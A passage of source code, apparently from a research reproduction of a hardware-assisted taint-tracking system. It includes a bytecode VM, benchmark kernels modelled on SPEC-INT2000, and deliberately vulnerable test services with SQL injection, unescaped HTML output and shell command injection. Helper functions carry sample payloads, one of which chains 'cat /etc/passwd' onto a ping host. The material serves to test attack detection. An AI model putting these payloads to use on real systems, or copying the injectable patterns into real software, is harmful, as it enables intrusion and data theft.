        } else if (op == 23) {      // FIND
            vpop();
            int nee = pv;
            vpop();
            push_i(find_h(pv, nee));
        } else if (op == 24) {      // SLICE
            vpop();
            int b = pv;
            vpop();
            int a = pv;
            vpop();
            push_s(slice_h(pv, a, b));
        } else if (op == 25) {      // TOINT
            vpop();
            push_i(toint_h(pv));
        } else if (op == 26) {      // TOSTR
            vpop();
            push_s(tostr_h(pv));
        } else if (op == 27) {      // ESCAPE
            vpop();
            push_s(escape_h(pv));
        } else if (op == 28) {      // KVGET
            vpop();
            push_s(kv_get(pv));
        } else if (op == 29) {      // KVSET
            vpop();
            int v = pv;
            vpop();
            push_i(kv_set(pv, v));
        } else if (op == 30) {      // SQL: the H3 use point
            vpop();
            to_cstr(pv, sqlbuf, 768);
            push_i(sql_exec(sqlbuf));
        } else if (op == 31) {      // SQLP: parameterized query
            vpop();
            int param = pv;
            vpop();
            int query = pv;
            // The binding is staged out of band; only the constant
            // query text (with its ? placeholder) reaches the engine.
            to_cstr(param, parambuf, 512);
            to_cstr(query, sqlbuf, 768);
            push_i(sql_exec(sqlbuf));
        } else if (op == 32) {      // EMIT
            vpop();
            push_i(emit_h(pv));
        } else if (op == 33) {      // LOG
            vpop();
            to_cstr(pv, sqlbuf, 768);
            console_log(sqlbuf);
            push_i(0);
        } else if (op == 34) {      // CALL
            int idx = code[pc] & 255;
            pc++;
            if (idx >= nfuncs || csp >= 16) {
                vm_err = 1;
            } else {
                calls[csp] = pc;
                csp++;
                pc = code_start + func_off[idx];
            }
        } else if (op == 35) {      // RET
            if (csp <= 0) {
                vm_err = 1;
            } else {
                csp--;
                pc = calls[csp];
            }
        } else if (op == 36) {      // SYSTEM: the H4 use point
            vpop();
            to_cstr(pv, sqlbuf, 768);
            push_i(system(sqlbuf));
        } else {
            vm_err = 1;
        }
    }
    return -1;
}

// Scrub every request-derived byte (data *and* taint tags go to zero,
// since memset's fill is an untainted constant).  The kvheap survives:
// values a SET stored stay live — and stay tainted — by design.
int scrub() {
    memset(reqbuf, 0, 1024);
    memset(respbuf, 0, 2048);
    memset(sqlbuf, 0, 768);
    memset(parambuf, 0, 512);
    memset(arena, 0, arena_top);
    memset((char *)&sv, 0, 512);
    memset((char *)&var_v, 0, 256);
    arena_top = 0;
    return 0;
}

int handle(int fd) {
    int n = recv(fd, reqbuf, @REQLIMIT@);
    if (n <= 0) {
        return 0;
    }
    reqbuf[n] = 0;
    sp = 0;
    csp = 0;
    s_count = 0;
    arena_top = 0;
    resp_len = 0;
    vm_err = 0;
    int i = 0;
    while (i < 32) {
        var_v[i] = 0;
        var_t[i] = 0;
        i++;
    }
    i = 0;
    while (i < 48) {
        const_handle[i] = 0 - 1;
        i++;
    }
    str_from(reqbuf, n);   // handle 0: the (tainted) request string
    vm_run();
    if (vm_err != 0) {
        resp_len = 0;
        respbuf[0] = 'E';
        respbuf[1] = 'R';
        respbuf[2] = 'R';
        respbuf[3] = ' ';
        respbuf[4] = 'v';
        respbuf[5] = 'm';
        respbuf[6] = (char)('0' + vm_err);
        resp_len = 7;
    }
    send(fd, respbuf, resp_len);   // the H5 use point
    scrub();
    return 1;
}

int main() {
    if (vm_boot() != 0) {
        return -1;
    }
    int fd;
    while ((fd = accept()) >= 0) {
        served += handle(fd);
    }
    return served;
}
"""


def render_guestvm(blob: bytes) -> str:
    """Render the VM's MiniC source around an assembled bytecode blob."""
    numbers = [str(b) for b in blob]
    lines = []
    for i in range(0, len(numbers), 24):
        lines.append(", ".join(numbers[i:i + 24]))
    literal = ",\n    ".join(lines)
    return (GUESTVM_TEMPLATE
            .replace("@CODELEN@", str(len(blob)))
            .replace("@CODE@", "\n    " + literal + "\n")
            .replace("@RESPLIMIT@", str(RESPONSE_LIMIT))
            .replace("@REQLIMIT@", str(REQUEST_LIMIT)))


def guestvm_source(script: str) -> str:
    """Compile a MiniScript program and embed it in the MiniC VM."""
    return render_guestvm(assemble(script).blob)


# ---------------------------------------------------------------------------
# The two vulnerable services (MiniScript).
# ---------------------------------------------------------------------------

#: Key-value store with a query mini-language (paper Table 1, H3).
KV_SERVICE_SCRIPT = """
# kv service: SET <key> <value> | GET <key> | PGET <key>
let req = arg;
let sp = find(req, " ");
if sp < 0 {
  emit("ERR bad request");
} else {
  let verb = slice(req, 0, sp);
  let rest = slice(req, sp + 1, len(req));
  if verb == "SET" {
    let sp2 = find(rest, " ");
    if sp2 < 0 {
      emit("ERR SET needs key and value");
    } else {
      kvset(slice(rest, 0, sp2), slice(rest, sp2 + 1, len(rest)));
      emit("OK");
    }
  } else if verb == "GET" {
    # VULNERABLE: the tainted key is concatenated into the SQL text.
    sql("SELECT v FROM kv WHERE k='" + rest + "'");
    emit("VALUE " + kvget(rest));
  } else if verb == "PGET" {
    # CONTROL: parameterized query — the key never enters the string.
    sqlparam("SELECT v FROM kv WHERE k=?", rest);
    emit("VALUE " + kvget(rest));
  } else {
    emit("ERR unknown verb");
  }
}
"""

#: Templating handler emitting HTML (paper Table 1, H5).
TEMPLATE_SERVICE_SCRIPT = """
# template service: RAW <name> | ESC <name>
let req = arg;
let raw = 0;
let who = "";
let sp = find(req, " ");
if sp < 0 {
  emit("ERR bad request");
} else {
  let verb = slice(req, 0, sp);
  who = slice(req, sp + 1, len(req));
  if verb == "RAW" {
    # VULNERABLE: tainted value interpolated into the page unescaped.
    raw = 1;
    render();
  } else if verb == "ESC" {
    # CONTROL: entity-escaped inside the VM before interpolation.
    render();
  } else {
    emit("ERR unknown verb");
  }
}

def render {
  emit("<html><body><p>Hello ");
  if raw == 1 {
    emit(who);
  } else {
    emit(escape(who));
  }
  emit("</p></body></html>");
}
"""

#: Diagnostic shell-out handler (paper Table 1, H4).
PING_SERVICE_SCRIPT = """
# ping service: PING <host> | VPING <host>
let req = arg;
let host = "";
let ok = 0;
let sp = find(req, " ");
if sp < 0 {
  emit("ERR bad request");
} else {
  let verb = slice(req, 0, sp);
  host = slice(req, sp + 1, len(req));
  if verb == "PING" {
    # VULNERABLE: the tainted host rides into the shell command text.
    system("ping -c 1 " + host);
    emit("PONG " + host);
  } else if verb == "VPING" {
    # CONTROL: charset-validate the host before shelling out.  The
    # command is still built from tainted bytes, but none of them can
    # be a shell metacharacter, so H4 stays quiet.
    validate();
    if ok == 1 {
      system("ping -c 1 " + host);
      emit("PONG " + host);
    } else {
      emit("ERR bad host");
    }
  } else {
    emit("ERR unknown verb");
  }
}

def validate {
  ok = 1;
  let i = 0;
  while i < len(host) {
    let c = char(host, i);
    let good = 0;
    if c >= 97 { if c <= 122 { good = 1; } }
    if c >= 48 { if c <= 57 { good = 1; } }
    if c == 46 { good = 1; }
    if c == 45 { good = 1; }
    if good == 0 { ok = 0; }
    i = i + 1;
  }
  if len(host) == 0 { ok = 0; }
}
"""

_assembled_cache: Dict[str, Assembled] = {}


def assembled_service(script: str) -> Assembled:
    """Assemble (and cache) one of the service scripts."""
    cached = _assembled_cache.get(script)
    if cached is None:
        cached = assemble(script)
        _assembled_cache[script] = cached
    return cached


#: Ready-to-compile MiniC sources, one VM per service.
GUESTVM_KV_SOURCE = render_guestvm(assembled_service(KV_SERVICE_SCRIPT).blob)
GUESTVM_TMPL_SOURCE = render_guestvm(
    assembled_service(TEMPLATE_SERVICE_SCRIPT).blob)
GUESTVM_PING_SOURCE = render_guestvm(
    assembled_service(PING_SERVICE_SCRIPT).blob)


# ---------------------------------------------------------------------------
# Request builders (campaign + test vocabulary).
# ---------------------------------------------------------------------------


def kv_set_request(key: str, value: str) -> bytes:
    """Store a value (clean traffic; the stored bytes stay tainted)."""
    return f"SET {key} {value}".encode()


def kv_get_request(key: str) -> bytes:
    """Look a key up via the *vulnerable* concatenated query."""
    return f"GET {key}".encode()


def kv_pget_request(key: str) -> bytes:
    """Look a key up via the parameterized control path."""
    return f"PGET {key}".encode()


def sql_injection_request(key: str = "x' OR '1'='1") -> bytes:
    """Classic injection: tainted quotes break out of the key literal."""
    return kv_get_request(key)


def template_request(name: str, escaped: bool = False) -> bytes:
    """Render a page (RAW = vulnerable, ESC = escaped control)."""
    verb = "ESC" if escaped else "RAW"
    return f"{verb} {name}".encode()


def xss_request(payload: str = "<script>alert(1)</script>") -> bytes:
    """Classic stored-nothing XSS: tainted script tag in the output."""
    return template_request(payload, escaped=False)


def ping_request(host: str, validated: bool = False) -> bytes:
    """Shell out to ping (PING = vulnerable, VPING = validated)."""
    verb = "VPING" if validated else "PING"
    return f"{verb} {host}".encode()


def command_injection_request(host: str = "localhost;cat /etc/passwd"
                              ) -> bytes:
    """Classic injection: a tainted metachar chains a second command."""
    return ping_request(host, validated=False)
