"""Branch/compare-heavy kernels: 176.gcc and 197.parser."""

from __future__ import annotations

import random

from repro.apps.spec.common import KERNEL_PRELUDE, SpecBenchmark, text_input

# 176.gcc analogue: an expression evaluator over a generated arithmetic
# program.  Tokenising + precedence climbing means the hot loop is
# dominated by compares and branches on (tainted) characters, which is
# what makes real gcc the worst case for SHIFT (compare relaxation).
_GCC_SOURCE = KERNEL_PRELUDE + """
char src[8192];
int pos;
int src_len;

int peek() {
    if (pos >= src_len) {
        return -1;
    }
    return src[pos];
}

int skip_ws() {
    while (pos < src_len && (src[pos] == ' ' || src[pos] == 10)) {
        pos++;
    }
    return 0;
}

int parse_expr();

int parse_atom() {
    skip_ws();
    int c = peek();
    if (c == '(') {
        pos++;
        int v = parse_expr();
        skip_ws();
        if (peek() == ')') {
            pos++;
        }
        return v;
    }
    int neg = 0;
    if (c == '-') {
        neg = 1;
        pos++;
        c = peek();
    }
    int v = 0;
    while (c >= '0' && c <= '9') {
        v = v * 10 + (c - '0');
        pos++;
        c = peek();
    }
    if (neg) {
        return -v;
    }
    return v;
}

int parse_term() {
    int v = parse_atom();
    skip_ws();
    int c = peek();
    while (c == '*' || c == '/') {
        pos++;
        int rhs = parse_atom();
        if (c == '*') {
            v = v * rhs;
        } else {
            if (rhs == 0) {
                rhs = 1;
            }
            v = v / rhs;
        }
        v = v & 0xffffff;
        skip_ws();
        c = peek();
    }
    return v;
}

int parse_expr() {
    int v = parse_term();
    skip_ws();
    int c = peek();
    while (c == '+' || c == '-') {
        pos++;
        int rhs = parse_term();
        if (c == '+') {
            v = v + rhs;
        } else {
            v = v - rhs;
        }
        v = v & 0xffffff;
        skip_ws();
        c = peek();
    }
    return v;
}

// Lexical statistics pass: like a compiler front end, it classifies
// every (tainted) character through a cascade of compares -- the
// compare-relaxation worst case that makes real gcc SHIFT's most
// expensive benchmark.
int classify_chars() {
    int digits = 0;
    int low = 0;
    int ops = 0;
    int parens = 0;
    int seps = 0;
    int other = 0;
    int i;
    for (i = 0; i < src_len; i++) {
        char c = src[i];
        if (c >= '0' && c <= '9') {
            digits++;
            if (c >= '0' && c <= '4') {
                low++;
            }
        } else if (c == '+' || c == '-' || c == '*' || c == '/') {
            ops++;
        } else if (c == '(' || c == ')') {
            parens++;
        } else if (c == ';' || c == ' ' || c == 10 || c == 9) {
            seps++;
        } else if ((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || c == '_') {
            other++;
        }
    }
    return digits * 16 + low * 8 + ops * 4 + parens * 2 + seps + other;
}

int main() {
    src_len = load_input(src, @INPUT@);
    int sum = 0;
    int exprs = 0;
    int round;
    for (round = 0; round < @LEX@; round++) {
        sum = (sum + classify_chars()) & 0xffffff;
    }
    for (round = 0; round < @ROUNDS@; round++) {
        pos = 0;
        while (pos < src_len) {
            sum = (sum * 7 + parse_expr()) & 0xffffff;
            exprs++;
            skip_ws();
            if (peek() == ';') {
                pos++;
            } else {
                pos++;
            }
        }
    }
    result = sum * 1024 + (exprs & 1023);
    return sum & 255;
}
"""


def _gcc_input(rng: random.Random, params) -> bytes:
    """Generate arithmetic expressions separated by semicolons."""
    out = []
    size = params["INPUT"]
    text = ""
    while len(text) < size - 40:
        terms = []
        for _ in range(rng.randrange(2, 6)):
            factors = [str(rng.randrange(1, 999)) for _ in range(rng.randrange(1, 4))]
            terms.append("*".join(factors))
        expr = "+".join(terms)
        if rng.random() < 0.3:
            expr = f"({expr})-{rng.randrange(1, 99)}"
        text += expr + ";"
    return text.encode()[:size]


GCC = SpecBenchmark(
    name="gcc",
    spec_name="176.gcc",
    description="expression parsing/eval: compare- and branch-dominated",
    source_template=_GCC_SOURCE,
    params={
        "test": {"INPUT": 300, "ROUNDS": 1, "LEX": 4},
        "ref": {"INPUT": 1400, "ROUNDS": 1, "LEX": 32},
    },
    input_maker=_gcc_input,
)

# 197.parser analogue: tokenising text and looking words up in a small
# dictionary with strcmp -- string/char compare heavy.
_PARSER_SOURCE = KERNEL_PRELUDE + """
char text[8192];
char word[64];
char dict[1024];
int dict_offsets[64];
int dict_count;

int add_word(char *w) {
    int off = 0;
    if (dict_count > 0) {
        off = dict_offsets[dict_count - 1] + strlen(dict + dict_offsets[dict_count - 1]) + 1;
    }
    strcpy(dict + off, w);
    dict_offsets[dict_count] = off;
    dict_count++;
    return 0;
}

int lookup(char *w) {
    int i;
    for (i = 0; i < dict_count; i++) {
        if (strcmp(dict + dict_offsets[i], w) == 0) {
            return i;
        }
    }
    return -1;
}

int main() {
    int n = load_input(text, @INPUT@);
    add_word("the");
    add_word("quick");
    add_word("brown");
    add_word("fox");
    add_word("jumps");
    add_word("over");
    add_word("lazy");
    add_word("dog");
    add_word("with");
    add_word("state");
    add_word("machine");
    add_word("taint");
    int i = 0;
    int known = 0;
    int unknown = 0;
    int sum = 0;
    while (i < n) {
        while (i < n && text[i] == ' ') {
            i++;
        }
        int wl = 0;
        while (i < n && text[i] != ' ' && wl < 60) {
            word[wl] = text[i];
            wl++;
            i++;
        }
        if (wl == 0) {
            break;
        }
        word[wl] = 0;
        int idx = lookup(word);
        if (idx >= 0) {
            known++;
            sum = (sum * 13 + idx) & 0xffffff;
        } else {
            unknown++;
            sum = (sum * 13 + wl) & 0xffffff;
        }
    }
    result = sum * 4096 + known * 64 + (unknown & 63);
    return sum & 255;
}
"""

PARSER = SpecBenchmark(
    name="parser",
    spec_name="197.parser",
    description="tokenise + dictionary lookup: string compares, char loads",
    source_template=_PARSER_SOURCE,
    params={
        "test": {"INPUT": 400},
        "ref": {"INPUT": 2600},
    },
    input_maker=lambda rng, p: text_input(rng, p["INPUT"]),
)
