"""Arithmetic/array kernels: 186.crafty, 175.vpr, 300.twolf."""

from __future__ import annotations

from repro.apps.spec.common import KERNEL_PRELUDE, SpecBenchmark, binary_input

# 186.crafty analogue: 64-bit bitboard manipulation -- shifts, masks and
# popcounts over word-sized data, comparatively few memory operations.
_CRAFTY_SOURCE = KERNEL_PRELUDE + """
char raw[2048];
int boards[256];

int popcount(int x) {
    int c = 0;
    while (x) {
        c++;
        x = x & (x - 1);
    }
    return c;
}

int main() {
    int n = load_input(raw, @INPUT@);
    int nb = n / 8;
    int i;
    for (i = 0; i < nb; i++) {
        int v = 0;
        int b;
        for (b = 0; b < 8; b++) {
            v = (v << 8) | (raw[i * 8 + b] & 255);
        }
        boards[i] = v;
    }
    int score = 0;
    int round;
    for (round = 0; round < @ROUNDS@; round++) {
        for (i = 0; i < nb; i++) {
            int b = boards[i];
            int north = b << 8;
            int south = b >> 8;
            int east = (b << 1) & 0x7f7f7f7f;
            int west = (b >> 1) & 0xfefefefe;
            int attacks = north | south | east | west;
            int defended = b & attacks;
            score += popcount(attacks) * 2 - popcount(defended);
            score += popcount(b ^ (b >> 32));
            score = score & 0xffffff;
            boards[i] = b ^ (attacks & 0x55aa55aa);
        }
    }
    result = score;
    return score & 255;
}
"""

CRAFTY = SpecBenchmark(
    name="crafty",
    spec_name="186.crafty",
    description="bitboard ops: shift/mask/popcount, register-dominated",
    source_template=_CRAFTY_SOURCE,
    params={
        "test": {"INPUT": 160, "ROUNDS": 2},
        "ref": {"INPUT": 640, "ROUNDS": 9},
    },
    input_maker=lambda rng, p: binary_input(rng, p["INPUT"]),
)

# 175.vpr analogue: placement cost optimisation over coordinate arrays --
# array arithmetic with moderate memory traffic.
_VPR_SOURCE = KERNEL_PRELUDE + """
native int rand();
native void srand(int seed);

char raw[4096];
int xs[256];
int ys[256];
int net_a[256];
int net_b[256];

int absval(int v) {
    // branchless abs, as an optimising compiler would emit
    int m = v >> 63;
    return (v + m) ^ m;
}

int net_cost(int i) {
    int a = net_a[i];
    int b = net_b[i];
    return absval(xs[a] - xs[b]) + absval(ys[a] - ys[b]);
}

int total_cost(int nets) {
    int c = 0;
    int i;
    for (i = 0; i < nets; i++) {
        c += net_cost(i);
    }
    return c;
}

int main() {
    int n = load_input(raw, @INPUT@);
    int cells = @CELLS@;
    int nets = @NETS@;
    int i;
    for (i = 0; i < cells; i++) {
        xs[i] = raw[(i * 2) % n] & 63;
        ys[i] = raw[(i * 2 + 1) % n] & 63;
    }
    for (i = 0; i < nets; i++) {
        net_a[i] = (raw[(i * 3) % n] & 255) % cells;
        net_b[i] = (raw[(i * 3 + 2) % n] & 255) % cells;
    }
    srand(raw[0] & 255);
    int cost = total_cost(nets);
    int moves = 0;
    for (i = 0; i < @ITERS@; i++) {
        int a = rand() % cells;
        int b = rand() % cells;
        int tx = xs[a];
        int ty = ys[a];
        xs[a] = xs[b];
        ys[a] = ys[b];
        xs[b] = tx;
        ys[b] = ty;
        int newcost = total_cost(nets);
        if (newcost <= cost) {
            cost = newcost;
            moves++;
        } else {
            tx = xs[a];
            ty = ys[a];
            xs[a] = xs[b];
            ys[a] = ys[b];
            xs[b] = tx;
            ys[b] = ty;
        }
    }
    result = cost * 1024 + moves;
    return cost & 255;
}
"""

VPR = SpecBenchmark(
    name="vpr",
    spec_name="175.vpr",
    description="placement cost loops: array arithmetic, swaps",
    source_template=_VPR_SOURCE,
    params={
        "test": {"INPUT": 256, "CELLS": 24, "NETS": 32, "ITERS": 10},
        "ref": {"INPUT": 1024, "CELLS": 96, "NETS": 128, "ITERS": 55},
    },
    input_maker=lambda rng, p: binary_input(rng, p["INPUT"]),
)

# 300.twolf analogue: simulated-annealing style cost optimisation with a
# random acceptance rule -- arithmetic heavy with moderate memory use.
_TWOLF_SOURCE = KERNEL_PRELUDE + """
char raw[4096];
int weights[512];
int rng_state;

// Inline LCG seeded from the (tainted) input, like twolf's own
// random-number generator compiled into the benchmark.
int next_rand() {
    rng_state = (rng_state * 1103515245 + 12345) & 0x7fffffff;
    return rng_state >> 8;
}

int main() {
    int n = load_input(raw, @INPUT@);
    int cells = @CELLS@;
    int i;
    for (i = 0; i < cells; i++) {
        weights[i] = (raw[i % n] & 255) + 1;
    }
    rng_state = (raw[1] & 255) + 7;
    int energy = 0;
    for (i = 0; i < cells; i++) {
        energy += weights[i] * (i & 15);
    }
    int temperature = 1000;
    int accepted = 0;
    int step;
    for (step = 0; step < @STEPS@; step++) {
        int a = next_rand() % cells;
        int b = next_rand() % cells;
        int wa = weights[a];
        int wb = weights[b];
        int delta = (wb - wa) * ((a & 15) - (b & 15));
        if (delta < 0 || next_rand() % 1000 < temperature) {
            weights[a] = wb;
            weights[b] = wa;
            energy += delta;
            accepted++;
        }
        if ((step & 63) == 63 && temperature > 10) {
            temperature = temperature * 9 / 10;
        }
    }
    result = (energy & 0xffffff) * 256 + (accepted & 255);
    return energy & 255;
}
"""

TWOLF = SpecBenchmark(
    name="twolf",
    spec_name="300.twolf",
    description="annealing loop: arithmetic with random accept/reject",
    source_template=_TWOLF_SOURCE,
    params={
        "test": {"INPUT": 256, "CELLS": 64, "STEPS": 300},
        "ref": {"INPUT": 1024, "CELLS": 384, "STEPS": 2600},
    },
    input_maker=lambda rng, p: binary_input(rng, p["INPUT"]),
)
