"""SPEC-INT2000-like benchmark kernels (paper section 6.2).

Eight kernels mirroring the instruction mixes of the benchmarks the
paper measures.  Ordering matches Figure 7.
"""

from repro.apps.spec.common import SCALES, SpecBenchmark
from repro.apps.spec.kernels_compress import BZIP2, GZIP
from repro.apps.spec.kernels_logic import GCC, PARSER
from repro.apps.spec.kernels_memory import MCF
from repro.apps.spec.kernels_numeric import CRAFTY, TWOLF, VPR

#: All kernels, in the paper's Figure 7 order.
BENCHMARKS = {
    "gzip": GZIP,
    "gcc": GCC,
    "crafty": CRAFTY,
    "bzip2": BZIP2,
    "vpr": VPR,
    "mcf": MCF,
    "parser": PARSER,
    "twolf": TWOLF,
}

__all__ = ["BENCHMARKS", "SCALES", "SpecBenchmark",
           "BZIP2", "CRAFTY", "GCC", "GZIP", "MCF", "PARSER", "TWOLF", "VPR"]
