"""Compression-flavoured kernels: 164.gzip and 256.bzip2."""

from __future__ import annotations

from repro.apps.spec.common import (
    KERNEL_PRELUDE,
    SpecBenchmark,
    skewed_input,
    text_input,
)

_GZIP_SOURCE = KERNEL_PRELUDE + """
char inbuf[4096];
char outbuf[8192];

int main() {
    int n = load_input(inbuf, @INPUT@);
    int i = 0;
    int oi = 0;
    while (i < n) {
        int best_len = 0;
        int best_off = 0;
        int start = i - @WINDOW@;
        if (start < 0) {
            start = 0;
        }
        int j;
        for (j = start; j < i; j++) {
            int len = 0;
            while (len < 15 && i + len < n && inbuf[j + len] == inbuf[i + len]) {
                len++;
            }
            if (len > best_len) {
                best_len = len;
                best_off = i - j;
            }
        }
        if (best_len >= 3) {
            outbuf[oi] = (char)255;
            outbuf[oi + 1] = (char)best_off;
            outbuf[oi + 2] = (char)best_len;
            oi += 3;
            i += best_len;
        } else {
            outbuf[oi] = inbuf[i];
            oi++;
            i++;
        }
    }
    int sum = 0;
    int k;
    for (k = 0; k < oi; k++) {
        sum = sum * 31 + outbuf[k];
        sum = sum & 0xffffff;
    }
    result = sum * 4096 + oi;
    return sum & 255;
}
"""

GZIP = SpecBenchmark(
    name="gzip",
    spec_name="164.gzip",
    description="LZ77-style compression: char-heavy loads, match search",
    source_template=_GZIP_SOURCE,
    params={
        "test": {"INPUT": 300, "WINDOW": 16},
        "ref": {"INPUT": 1100, "WINDOW": 32},
    },
    input_maker=lambda rng, p: text_input(rng, p["INPUT"]),
)

_BZIP2_SOURCE = KERNEL_PRELUDE + """
char inbuf[4096];
char mtf[256];
char coded[4096];

int main() {
    int n = load_input(inbuf, @INPUT@);
    int i;
    for (i = 0; i < 256; i++) {
        mtf[i] = (char)i;
    }
    // Move-to-front transform.
    for (i = 0; i < n; i++) {
        char c = inbuf[i];
        int j = 0;
        while (mtf[j] != c) {
            j++;
        }
        coded[i] = (char)j;
        while (j > 0) {
            mtf[j] = mtf[j - 1];
            j--;
        }
        mtf[0] = c;
    }
    // Run-length encode the MTF output.
    int runs = 0;
    int sum = 0;
    i = 0;
    while (i < n) {
        int j = i + 1;
        while (j < n && coded[j] == coded[i]) {
            j++;
        }
        runs++;
        sum = (sum * 17 + coded[i] * (j - i)) & 0xffffff;
        i = j;
    }
    result = sum * 65536 + runs;
    return sum & 255;
}
"""

BZIP2 = SpecBenchmark(
    name="bzip2",
    spec_name="256.bzip2",
    description="move-to-front + RLE: byte loads/stores, short loops",
    source_template=_BZIP2_SOURCE,
    params={
        "test": {"INPUT": 200},
        "ref": {"INPUT": 900},
    },
    input_maker=lambda rng, p: skewed_input(rng, p["INPUT"]),
)
