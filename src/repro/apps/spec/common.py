"""Shared infrastructure for the SPEC-INT2000-like kernels.

Each kernel is a MiniC program that reads its workload from ``/data``
(so that "all data read from disk" can be marked tainted, as in the
paper's SPEC measurements, section 6.2), processes it in a loop whose
instruction mix mirrors the corresponding SPEC benchmark, and leaves a
checksum in the global ``result`` — identical across instrumentation
modes, which the tests use as a strong correctness check.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from typing import Callable, Dict

#: Scale factors: 'test' keeps unit tests fast; 'ref' is used by the
#: experiment harness for the paper figures.
SCALES = ("test", "ref")


@dataclass(frozen=True)
class SpecBenchmark:
    """One SPEC-like kernel: source template + input generator."""

    name: str
    spec_name: str  # e.g. "164.gzip"
    description: str
    source_template: str
    params: Dict[str, Dict[str, int]]  # scale -> {placeholder: value}
    input_maker: Callable[[random.Random, Dict[str, int]], bytes]

    def source(self, scale: str = "ref") -> str:
        """MiniC source with the scale's parameters substituted."""
        text = self.source_template
        for key, value in self.params[scale].items():
            text = text.replace(f"@{key}@", str(value))
        if "@" in text:
            start = text.index("@")
            raise ValueError(
                f"{self.name}: unreplaced placeholder near {text[start:start + 20]!r}"
            )
        return text

    def make_input(self, scale: str = "ref", seed: int = 12345) -> bytes:
        """Deterministic workload bytes for /data."""
        rng = random.Random(seed + hash(self.name) % 1000)
        return self.input_maker(rng, self.params[scale])


#: MiniC preamble shared by every kernel: natives + input loading.
KERNEL_PRELUDE = """
native int open(char *path, int flags);
native int read(int fd, char *buf, int n);
native int close(int fd);

int result;

int load_input(char *buf, int limit) {
    int fd = open("/data", 0);
    if (fd < 0) {
        return 0;
    }
    int total = 0;
    int n = read(fd, buf, limit);
    while (n > 0) {
        total += n;
        n = read(fd, buf + total, limit - total);
    }
    close(fd);
    return total;
}
"""


def text_input(rng: random.Random, size: int) -> bytes:
    """Compressible text-like bytes (words with repetition)."""
    words = [b"the", b"quick", b"brown", b"fox", b"jumps", b"over", b"lazy",
             b"dog", b"pack", b"my", b"box", b"with", b"five", b"dozen",
             b"liquor", b"jugs", b"state", b"machine", b"taint", b"track"]
    out = bytearray()
    while len(out) < size:
        out += rng.choice(words) + b" "
    return bytes(out[:size])


def binary_input(rng: random.Random, size: int) -> bytes:
    """Uniformly random bytes (incompressible data)."""
    return bytes(rng.randrange(256) for _ in range(size))


def skewed_input(rng: random.Random, size: int) -> bytes:
    """Byte stream with a skewed distribution (good for MTF coding)."""
    alphabet = b"eetaoinshrdlucc  "
    return bytes(rng.choice(alphabet) for _ in range(size))
