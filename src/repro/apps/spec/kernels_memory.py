"""181.mcf analogue: pointer chasing over a working set larger than L2.

Real 181.mcf is network-simplex over big node/arc arrays and is bound by
cache misses; instrumentation overhead is therefore small *relative* to
memory stalls (the paper's best case at 1.32X), and the architectural
enhancements barely move it (2%/5%, section 6.3).  The kernel walks a
pseudo-random permutation through a table much larger than the L2 so
every step misses, and only a small seed buffer comes from the tainted
input file — matching the paper's note that mcf "manipulates relatively
little tainted data".
"""

from __future__ import annotations

from repro.apps.spec.common import KERNEL_PRELUDE, SpecBenchmark, binary_input

_MCF_SOURCE = KERNEL_PRELUDE + """
char seedbuf[4096];
int table[@TABLE@];

int main() {
    int n = load_input(seedbuf, @INPUT@);
    int size = @TABLE@;
    int i;
    // Seed a sparse subset of the table from the (tainted) input; the
    // bulk of the working set is untainted zero-initialised memory.
    for (i = 0; i < n; i++) {
        table[(i * 97) % size] = seedbuf[i] & 255;
    }
    int mask = size - 1;
    int idx = 0;   // traversal order is structural, not input-derived
    int sum = 0;
    int step;
    for (step = 0; step < @STEPS@; step++) {
        // Cold streaming pass over the arc array: a new cache line
        // every eighth access, never revisited — memory-latency bound.
        // The taint-bitmap lines cover 8x as much data, so the
        // instrumentation's tag traffic misses far less than the data
        // itself (one reason mcf is SHIFT's cheapest benchmark).
        int v = table[idx];
        sum = (sum + v + (idx & 7)) & 0xffffff;
        table[idx] = v + 1;
        idx = (idx + 1) & mask;
    }
    result = sum;
    return sum & 255;
}
"""

MCF = SpecBenchmark(
    name="mcf",
    spec_name="181.mcf",
    description="pointer chasing, cache-miss bound, little tainted data",
    source_template=_MCF_SOURCE,
    params={
        "test": {"INPUT": 128, "TABLE": 4096, "STEPS": 1800},
        "ref": {"INPUT": 512, "TABLE": 16384, "STEPS": 13000},
    },
    input_maker=lambda rng, p: binary_input(rng, p["INPUT"]),
)
