"""The contained-taint key/value store (repro.spec workloads).

A small request/response service built to exercise **speculative
fast-path execution**: long-lived tainted data sits in a value slab,
but the dominant request kind (``SUM``) computes over a private arena
and never touches it.  The adaptive controller alone is stuck — the
slab never drains, so ``live_granules`` stays nonzero and every
request runs fully tracked.  The speculation controller digests the
slab into a handful of watch ranges and runs those same requests on
the fast copy, paying instrumentation only when a request actually
reaches tainted bytes.

Protocol (one request per connection, trusted network ingress):

* ``PUT <slot> <value>``  — store a value (clean).
* ``STOR <slot> <value>`` — store a value and mark it tainted via the
  ``taint_region`` native (the app-level trust boundary: values are
  attacker-supplied records, requests themselves are interior-tier
  traffic).
* ``SUM``                 — scramble/digest the private arena; the
  clean fast-path request.
* ``GET <slot>``          — echo the value back (guest copy loop: the
  loads hit the taint watch when the slot is tainted).
* ``EXEC <slot>``         — build ``run <value>`` and ``system()`` it;
  with a tainted value carrying shell metacharacters this is the
  paper's H4 command-injection detection.
"""

from __future__ import annotations

from typing import List

#: Slab geometry (mirrored by the guest source below).
SLOT_SIZE = 128
NUM_SLOTS = 8

SPECSTORE_SOURCE = """
native int accept();
native int recv(int fd, char *buf, int n);
native int send(int fd, char *buf, int n);
native int taint_region(char *p, int n);
native int system(char *cmd);

char req[512];
char slab[1024];
char arena[4096];
char out[256];
char cmd[256];
int served;

int send_str(int fd, char *s) {
    return send(fd, s, strlen(s));
}

int store_value(int fd, int tainted) {
    // "PUT d <value>" / "STOR d <value>": slot digit, space, value.
    int base = 4;
    if (tainted) {
        base = 5;
    }
    int slot = req[base] - '0';
    if (slot < 0 || slot > 7) {
        send_str(fd, "ERR slot\\n");
        return 0;
    }
    char *dst = slab + slot * 128;
    int i = base + 2;
    int n = 0;
    while (req[i] && n < 120) {
        dst[n] = req[i];
        n++;
        i++;
    }
    dst[n] = 0;
    if (tainted && n > 0) {
        taint_region(dst, n);
    }
    send_str(fd, "OK\\n");
    return 1;
}

int do_sum(int fd) {
    // The clean compute phase: three full passes over the private
    // arena (loads and stores on every byte) so instrumentation cost
    // dominates device time — the cycles speculation wins back.
    int h = 2166136261;
    int j = 0;
    while (j < 4096) {
        h = (h ^ arena[j]) * 16777619;
        arena[j] = h & 127;
        j++;
    }
    j = 0;
    while (j < 4096) {
        h = (h + arena[j]) * 33;
